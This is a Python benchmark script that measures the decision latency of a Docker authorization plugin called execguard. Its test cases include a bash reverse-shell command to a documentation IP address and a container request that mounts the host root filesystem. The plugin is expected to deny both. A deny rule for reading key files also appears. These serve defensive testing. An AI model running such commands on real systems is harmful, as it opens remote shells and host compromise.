"""Decision latency of `execguard guard docker-authz`: the CLI serves the plugin socket, a real HTTP client
(http.client over the unix socket, one keep-alive connection, as dockerd uses) sends AuthZReq payloads.

    .venv/bin/python benchmarks/guard.py --requests 2000

Wall-clock latency per request, client side (send to parsed answer), so it includes HTTP, JSON, the
rules, the policy (docs/policy-example.yml plus a deny entry) and the JSONL decision record. Target: p99 < 5 ms.
"""

from __future__ import annotations

import argparse
import base64
import http.client
import json
import os
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent


class UnixConnection(http.client.HTTPConnection):
    def __init__(self, path: str) -> None:
        super().__init__("localhost", timeout=10)
        self.unix = path

    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(self.unix)


def authz(method: str, uri: str, body: dict[str, Any] | None = None) -> bytes:
    req: dict[str, Any] = {"RequestMethod": method, "RequestUri": uri, "RequestHeaders": {"Content-Type": "application/json"}}
    if body is not None:
        req["RequestBody"] = base64.b64encode(json.dumps(body).encode()).decode()
    return json.dumps(req).encode()


CASES = {
    "exec benign (allowed)": authz(
        "POST", "/v1.41/containers/web/exec", {"Cmd": ["cat", "/etc/hostname"], "User": "", "Privileged": False}
    ),
    "exec reverse shell (denied)": authz(
        "POST", "/v1.41/containers/web/exec", {"Cmd": ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]}
    ),
    "create host mount (denied)": authz(
        "POST", "/v1.41/containers/create?name=x", {"Image": "bb", "Cmd": ["sh"], "HostConfig": {"Binds": ["/:/host"]}}
    ),
    "GET /containers/json (passed)": authz("GET", "/v1.41/containers/json"),
}


def cpu(pid: int) -> float:
    """User + system CPU seconds of a process so far (/proc/PID/stat): the plugin's own cost, contention aside."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def core(n: int) -> None:
    """The decision core alone, in this process: what the socket figures cost beyond HTTP and scheduling."""
    from execguard.engine.load import load_rules
    from execguard.guard.decide import Decider, Request

    decider = Decider(load_rules())
    for name, req in (
        ("core: exec benign", Request("docker", "exec", container="web", argv=["cat", "/etc/hostname"])),
        (
            "core: exec reverse shell",
            Request("docker", "exec", container="web", argv=["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]),
        ),
    ):
        times, cpu_times = [], []
        for _ in range(n):
            start, cpu_start = time.perf_counter(), time.thread_time()
            decider.decide(req)
            cpu_times.append(time.thread_time() - cpu_start)
            times.append(time.perf_counter() - start)
        q, c = statistics.quantiles(times, n=100), statistics.quantiles(cpu_times, n=100)
        print(f"{name:32}              p50 {q[49] * 1e3:.2f} ms  p99 {q[98] * 1e3:.2f} ms  max {max(times) * 1e3:.2f} ms"
              f"  (CPU p50 {c[49] * 1e3:.2f} ms, p99 {c[98] * 1e3:.2f} ms)")  # fmt: skip


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--requests", type=int, default=2000, help="per case")
    args = ap.parse_args(argv)
    tmp = Path(tempfile.mkdtemp(prefix="egbench"))
    policy = tmp / "policy.yml"
    example = (ROOT / "docs" / "policy-example.yml").read_text()
    policy.write_text(example + "  - name: bench-deny\n    action: deny\n    reason: benchmark\n    match: {commands: ['cat /keys*']}\n")
    sock = tmp / "p.sock"
    exe = Path(sys.executable).with_name("execguard")
    cmd = [str(exe), "guard", "docker-authz", "--socket", str(sock), "--policy", str(policy), "--state-dir", str(tmp / "state")]
    proc = subprocess.Popen(cmd, stderr=subprocess.PIPE)
    try:
        while not sock.exists():
            if proc.poll() is not None:
                raise SystemExit(f"plugin failed: {proc.stderr.read().decode() if proc.stderr else ''}")
            time.sleep(0.05)
        conn = UnixConnection(str(sock))
        total = 0
        for name, payload in CASES.items():
            times = []
            for i in range(args.requests + 100):
                start = time.perf_counter()
                conn.request("POST", "/AuthZPlugin.AuthZReq", body=payload, headers={"Content-Type": "application/json"})
                answer = json.loads(conn.getresponse().read())
                total += 1
                if i >= 100:  # warm-up left out
                    times.append(time.perf_counter() - start)
            q = statistics.quantiles(times, n=100)
            print(
                f"{name:32} allow={answer['Allow']!s:5} p50 {q[49] * 1e3:.2f} ms  p99 {q[98] * 1e3:.2f} ms  max {max(times) * 1e3:.2f} ms"
            )
        with open(tmp / "state" / "decisions.jsonl") as f:
            records = sum(1 for _ in f)
        print(f"{records} decisions recorded; plugin CPU {cpu(proc.pid) * 1e3 / total:.2f} ms per request on average (all cases)")
        core(args.requests)
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=10)
        shutil.rmtree(tmp, ignore_errors=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
